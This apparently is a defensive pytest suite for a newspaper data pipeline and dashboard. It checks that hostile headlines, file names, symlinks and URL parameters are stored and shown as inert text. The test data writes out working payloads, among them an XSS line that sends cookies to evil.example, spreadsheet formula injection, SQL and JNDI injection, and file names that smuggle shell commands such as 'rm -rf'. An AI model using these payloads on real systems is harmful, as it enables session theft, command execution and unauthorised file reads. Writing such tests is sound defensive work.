"""Newspapers, file names, links and URLs that mean harm: nothing is executed, fetched, overwritten or shown as markup."""

from __future__ import annotations

import io
import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest

from dashboard import export
from etl.__main__ import main
from etl.store import FILES
from tests import live

TITLES = [
    "<script>window.pwned=1;alert(1)</script>",
    "<img src=x onerror=\"window.pwned=1;fetch('https://evil.example/'+document.cookie)\">",
    "<svg/onload=window.pwned=1>",
    '"><iframe src=javascript:window.pwned=1></iframe>',
    "![x](https://evil.example/x.png) [a](javascript:alert(1)) **粗** # 标题",
    "$\\href{javascript:alert(1)}{x}$ :material/delete: :red[红] <https://evil.example>",
    '=HYPERLINK("https://evil.example";"x")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
    "\t=1+1",
    "'; DROP TABLE ev; --",
    '" OR 1=1 --',
    "${jndi:ldap://evil.example/x} {{7*7}} {0.__class__} %s %(x)s",
    "\u202e逆行\u202d \u2066孤立\u2069 \u200b零宽\ufeff",
    "退格\b响铃\a逃逸\x1b[2J\x1b]0;x\x07空\x00字",
    "\ud800孤单代理",
    "../../../../etc/passwd",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<!--#exec cmd=\"ls\"--><?php system('ls') ?>",
]


def article(title: str, n: int) -> str:
    text = f"3月1{n % 9}日，平城区永泰街道开展消防安全专项整治，{title}，检查商铺{n + 20}家。"
    row = {"title": title, "text": text, "published_on": f"2026-03-1{n % 9 + 1}", "newspaper": f"示例日报{title[:12]}"}
    return json.dumps(row) + "\n"


@pytest.fixture(scope="module")
def table(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A table of hostile articles."""
    raw, out = tmp_path_factory.mktemp("raw"), tmp_path_factory.mktemp("out")
    (raw / "a.jsonl").write_text("".join(article(t, n) for n, t in enumerate(TITLES)), encoding="utf-8")
    assert run(raw, out) == 0
    return out


def run(raw: Path, out: Path, *more: str) -> int:
    return main(["run", "--raw", str(raw), "--out", str(out), "--quiet", "--workers", "1", *more])


# --- the job ---------------------------------------------------------------------------------------------------------


def test_hostile_articles_are_articles(table: Path) -> None:
    articles = pq.read_table(table / "articles.parquet").to_pylist()
    assert len(articles) == len(TITLES)
    texts = "\n".join(f"{a['headline']}{a['text']}" for a in articles)
    assert "<script>" in texts and "=HYPERLINK" in texts and "DROP TABLE" in texts, "kept as printed"
    assert not any(c in texts for c in "\x00\x07\x08\x1b"), "but for what no newspaper prints"
    events = pq.read_table(table / "events.parquet").to_pylist()
    known = {a["article_id"]: a["text"] for a in articles}
    for event in events:
        for span in event["evidence"] + event["metrics"]:
            assert known[event["article_id"]][span["start"] : span["end"]] == span["text"]


def test_the_report_shows_no_markup(table: Path) -> None:
    page = (table / "run.html").read_text(encoding="utf-8")
    for part in ("<script", "<img", "<svg", "<iframe", "<link", "\u202e"):
        assert part not in page


def test_downloads_run_nothing(table: Path) -> None:
    frame = pd.read_parquet(table / "articles.parquet")[["headline", "newspaper", "text"]]
    text = export.csv(frame).decode("utf-8-sig")
    cells = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False).to_numpy().ravel()
    assert not [c for c in cells if c.lstrip(" \u3000")[:1] in tuple("=+-@＝＋－＠\t\r\n")]
    book = openpyxl.load_workbook(io.BytesIO(export.workbook([export.Sheet("标题", "", "", frame)])))
    for row in book.worksheets[0].iter_rows():
        for cell in row:
            assert cell.data_type != "f" and cell.hyperlink is None


@pytest.mark.parametrize(
    "shape", ["one line", "one headline", "one jsonl value", "brackets", "digits", "numerals", "quotes", "streets"]
)
def test_ten_megabytes_in_one_line(tmp_path: Path, shape: str) -> None:
    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()
    (raw / "good.jsonl").write_text(article("平常的一篇", 1), encoding="utf-8")
    size = 10_000_000
    long = {
        "one line": "平城区永泰街道检查商铺" * (size // 33),
        "one headline": "消" * (size // 3) + "\n\n本报讯 3月16日，平城区检查商铺86家。",
        "brackets": "（" * (size // 3),
        "digits": "1" * size,
        "numerals": "一百二十" * (size // 12),
        "quotes": "“" * (size // 6) + "”" * (size // 6),
        "streets": "街道" * (size // 6),
    }.get(shape)
    if long is None:
        row = {"title": "x", "text": "消防" * (size // 6), "published_on": "2026-03-16"}
        (raw / "long.jsonl").write_text(json.dumps(row, ensure_ascii=False) + "\n", encoding="utf-8")
    else:
        (raw / "long.txt").write_text(long, encoding="utf-8")
    assert run(raw, out) == 0
    articles = pq.read_table(out / "articles.parquet")
    report = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert "平常的一篇" in articles["headline"].to_pylist()
    told = {s["source_path"] for s in report["issue_samples"]}
    assert len(articles) >= 2 or any(str(t).startswith("long") for t in told), "an article or a word about it"


NAMES = [
    "<b>x.jsonl",
    "a\nb.jsonl",
    "--force.jsonl",
    "; rm -rf x.jsonl",
    "$(touch pwned).jsonl",
    "\u202egpj.jsonl",
    "n" * 200 + ".jsonl",
    "空 格.jsonl",
    "\udcff.jsonl",
]


@pytest.mark.skipif(os.name != "posix", reason="names that other systems refuse")
@pytest.mark.parametrize("name", NAMES)
def test_file_names(tmp_path: Path, name: str) -> None:
    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()
    (raw / name).write_text(article("平常的一篇", 1), encoding="utf-8")
    (raw / f"bad-{name[:100]}.pdf").write_bytes(b"%PDF-1.4 broken")
    assert run(raw, out) in (0, 4)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "raw"]
    page = (out / "run.html").read_bytes()
    assert b"<b>x" not in page and "\u202e".encode() not in page
    for line in (out / "logs" / "etl.jsonl").read_bytes().splitlines():
        json.loads(line)


# --- links and special files -----------------------------------------------------------------------------------------

posix = pytest.mark.skipif(os.name != "posix", reason="links and special files of POSIX")


@posix
def test_links_out_of_the_raw_folder_are_not_read(tmp_path: Path) -> None:
    raw, out, outside = tmp_path / "raw", tmp_path / "out", tmp_path / "outside"
    raw.mkdir()
    outside.mkdir()
    (outside / "secret.jsonl").write_text(article("不该读的一篇", 1), encoding="utf-8")
    (raw / "good.jsonl").write_text(article("平常的一篇", 2), encoding="utf-8")
    (raw / "file.jsonl").symlink_to(outside / "secret.jsonl")
    (raw / "folder").symlink_to(outside, target_is_directory=True)
    (raw / "loop").symlink_to(raw, target_is_directory=True)
    (raw / "self.jsonl").symlink_to("self.jsonl")
    (raw / "gone.jsonl").symlink_to("nowhere")
    (raw / "inside.jsonl").symlink_to("good.jsonl")
    os.mkfifo(raw / "pipe.jsonl")
    assert run(raw, out) == 0
    assert pq.read_table(out / "articles.parquet")["headline"].to_pylist() == ["平常的一篇"]
    report = json.loads((out / "run.json").read_text(encoding="utf-8"))
    told = {q["source_path"] for q in report["quarantine"]}
    assert {"file.jsonl", "folder", "self.jsonl", "gone.jsonl", "pipe.jsonl"} <= told


@posix
@pytest.mark.parametrize("name", ["versions", "cache", "logs", "cache/extract", "cache/parts", "cache/read"])
def test_folders_that_lead_out_are_refused(tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    raw, out, outside = tmp_path / "raw", tmp_path / "out", tmp_path / "outside"
    raw.mkdir()
    (raw / "good.jsonl").write_text(article("平常的一篇", 2), encoding="utf-8")
    for path in (outside / "v000001-x", outside / "sub"):
        path.mkdir(parents=True)
        (path / "mine").write_text("mine")
    (out / name).parent.mkdir(parents=True, exist_ok=True)
    (out / name).symlink_to(outside, target_is_directory=True)
    assert run(raw, out) == 6
    assert "leads out" in capsys.readouterr().err
    assert sorted(p.relative_to(outside).as_posix() for p in outside.rglob("*")) == [
        "sub",
        "sub/mine",
        "v000001-x",
        "v000001-x/mine",
    ]


@posix
def test_published_names_that_are_links_are_replaced_not_followed(tmp_path: Path) -> None:
    raw, out, victim = tmp_path / "raw", tmp_path / "out", tmp_path / "victim"
    raw.mkdir()
    out.mkdir()
    (raw / "good.jsonl").write_text(article("平常的一篇", 2), encoding="utf-8")
    victim.write_text("mine")
    for name in (
        "events.parquet",
        "articles.parquet",
        ".events.parquet.switch",
        ".lock.json",
        ".lock.json.new",
        ".run.html.new",
    ):
        (out / name).symlink_to(victim)
    assert run(raw, out) == 0
    assert victim.read_text() == "mine"
    assert not any((out / name).is_symlink() for name in FILES)


@pytest.mark.parametrize(
    "version", ["../../outside", "/etc", "", None, 7, "v000001-x/../../..", "v000001-" + "x" * 500]
)
def test_a_forged_run_json_leads_nowhere(tmp_path: Path, version: object) -> None:
    raw, out, outside = tmp_path / "raw", tmp_path / "out", tmp_path / "outside"
    for folder in (raw, out, outside):
        folder.mkdir()
    (raw / "good.jsonl").write_text(article("平常的一篇", 2), encoding="utf-8")
    (outside / "run.json").write_text("{}")
    (out / "run.json").write_text(json.dumps({"version": version}))
    assert run(raw, out) == 6
    assert sorted(p.name for p in outside.iterdir()) == ["run.json"]


# --- the dashboard ---------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def url(table: Path) -> Iterator[str]:
    live.chromium()
    with live.dashboard(table) as found:
        yield found


@pytest.fixture(scope="module")
def page(url: str) -> Iterator[Any]:
    """A page that notes dialogs, foreign requests and errors of scripts."""
    with live.browser() as found:
        one = found.new_context().new_page()
        one.wrong = []
        one.on("dialog", lambda d: (one.wrong.append(f"dialog {d.message}"), d.dismiss()))
        one.on(
            "request",
            lambda r: (
                one.wrong.append(r.url)
                if not r.url.startswith((url, "data:", "blob:", url.replace("http", "ws")))
                else None
            ),
        )
        one.on("pageerror", lambda e: one.wrong.append(str(e)))
        yield one


def clean(page: Any) -> None:
    """No script of a newspaper ran, nothing was fetched, no element was made of its text."""
    assert page.wrong == []
    assert page.evaluate("window.pwned") is None
    main = page.locator("[data-testid=stMain]")
    assert main.locator("script, iframe, link, img[src*=evil], a[href*=evil], a[href^='javascript']").count() == 0
    assert page.locator("[data-testid=stException]").count() == 0


def opened(page: Any, url: str) -> None:
    page.goto(url, wait_until="domcontentloaded")
    page.wait_for_selector("[data-testid=stMainBlockContainer] .ct-head, .ct-empty", timeout=60_000)
    page.wait_for_function(
        "!document.querySelector('[data-testid=stApp]')?.dataset.testScriptState?.includes('running')", timeout=60_000
    )
    page.wait_for_timeout(500)


@pytest.mark.browser
@pytest.mark.parametrize(
    "path",
    ["", "campaigns", "places", "indicators", "events", "brief", "data", "data?part=coverage", "data?part=issues"],
)
def test_hostile_newspapers_on_every_page(url: str, page: Any, path: str) -> None:
    opened(page, f"{url}/{path}")
    clean(page)


@pytest.mark.browser
def test_every_hostile_article_opens_as_text(url: str, page: Any, table: Path) -> None:
    events = pq.read_table(table / "events.parquet", columns=["event_id", "headline"]).to_pylist()
    for event in events[::3]:
        opened(page, f"{url}/events?event={event['event_id']}")
        page.wait_for_selector(".ct-article", timeout=60_000)
        clean(page)


PARAMETERS = [
    "place=' OR 1=1 --",
    "place=140213;DROP TABLE ev",
    "campaign=<script>window.pwned=1</script>",
    "paper=<img src=x onerror=window.pwned=1>",
    "q=<img src=x onerror=window.pwned=1>",
    "q=' UNION SELECT * FROM read_csv('/etc/passwd') --",
    "q=%_\\%",
    "q=" + "长" * 3000,
    "period=custom&from=0000-00-00&to=9999-99-99",
    "period=custom&from=0001-01-01&to=9999-12-31",
    "period=../../etc/passwd",
    "lang=<b>x</b>",
    "lang=../../en",
    "wall=1&lang=zz",
    "event=../../../etc/passwd",
    "event='||(SELECT 1)||'&focus=-1",
    "focus=99999999999999999999&page=-5&sort=__class__",
    "page=1e9&dup=x",
    "part=__init__&week=2026-W99&indicator={{7*7}}",
    "place=\u202e&group=\x01\x1b[2J",
    "embed=true&embed_options=dark_theme&x=" + "y" * 2000,
    "place=1&place=2&place=3",
]


@pytest.mark.browser
@pytest.mark.parametrize("path", ["", "events", "data"])
def test_parameters_of_any_kind(url: str, page: Any, path: str) -> None:
    for parameter in PARAMETERS if path == "events" else PARAMETERS[::5]:
        opened(page, f"{url}/{path}?{quote(parameter, safe='=&')}")
        clean(page)
